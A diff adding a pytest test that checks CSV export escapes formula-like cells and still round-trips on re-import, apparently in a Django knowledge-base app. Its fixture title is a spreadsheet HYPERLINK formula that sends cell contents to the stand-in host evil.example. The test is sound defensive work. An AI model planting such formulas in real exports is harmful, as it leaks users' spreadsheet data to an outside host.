@@ -83,6 +83,21 @@ def test_csv_export_has_a_header_and_one_row_per_article_and_locale(kb):
 
 
 @pytest.mark.django_db
+def test_csv_cells_a_spreadsheet_would_run_are_guarded_and_still_round_trip(kb, django_capture_on_commit_callbacks):
+    title = '=HYPERLINK("https://evil.example/?"&A1, "Click")'
+    Article.objects.filter(external_id="faq-1", locale="en").update(title=title, category="-1 day refunds")
+    before = kb_state()
+
+    rows = list(csv.DictReader(io.StringIO(export_csv())))
+    row = next(r for r in rows if r["external_id"] == "faq-1" and r["locale"] == "en")
+    assert (row["title"], row["category"]) == ("'" + title, "'-1 day refunds")
+
+    job = import_files([("export.csv", export_csv().encode())], django_capture_on_commit_callbacks)
+    assert (job.articles_updated, job.articles_unchanged) == (0, 11)
+    assert kb_state() == before
+
+
+@pytest.mark.django_db
 def test_export_download_needs_the_export_permission(client, kb):
     user = User.objects.create_user("agent", password="pw-agent-123456")
     user.user_permissions.add(Permission.objects.get(codename="view_article"))
